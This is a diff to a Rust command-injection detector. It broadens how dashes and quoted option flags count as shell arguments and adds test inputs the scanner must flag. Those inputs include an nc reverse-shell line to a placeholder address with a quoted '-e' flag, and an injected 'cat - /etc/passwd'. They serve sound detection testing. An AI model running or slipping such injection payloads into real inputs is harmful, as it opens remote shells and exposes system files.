@@ -1081,11 +1081,16 @@ fn evidence_after(b: &[u8], mut i: usize) -> Evidence {
     match c {
         // `/>` closes an empty markup element (`<foo val=`bar' />`): no path.
         b'/' if b.get(i + 1) == Some(&b'>') => Evidence::None,
-        // An option is `-x` or `--name`; a dash standing alone (`Stadtwerke -- Kd-Nr`,
-        // `Q2 - draft`) is prose's dash.
+        // An option is `-x` or `--name` (quoted or escaped as a shell reads it, `-'e'`); a
+        // dash standing alone (`Stadtwerke -- Kd-Nr`, `Q2 - draft`) is prose's dash unless a
+        // path or variable follows it (`cat - /etc/passwd`).
         b'-' => {
             let dashes = b[i..].iter().take(2).take_while(|&&c| c == b'-').count();
-            if b.get(i + dashes).is_some_and(u8::is_ascii_alphanumeric) {
+            let option = b
+                .get(i + dashes)
+                .is_some_and(|c| c.is_ascii_alphanumeric() || b"'\"\\$".contains(c));
+            let next = b[i + dashes..].iter().find(|c| !matches!(c, b' ' | b'\t'));
+            if option || next.is_some_and(|c| b"/~$<>".contains(c)) {
                 Evidence::Argument
             } else {
                 Evidence::None
@@ -1435,7 +1440,15 @@ mod tests {
             "rce",
             &["2024-06-03;\"LASTSCHRIFT -- Stadtwerke; Kd-Nr 4471\";-182,40;54138,60"],
         );
-        flags("rce", &["2024;foo --bar", "1;ls -la"]);
+        flags(
+            "rce",
+            &[
+                "2024;foo --bar",
+                "1;ls -la",
+                "127.0.0.1\nnc -'e' /bin/sh 203.0.113.9 4444",
+                "127.0.0.1;cat - /etc/passwd",
+            ],
+        );
     }
 
     #[test]
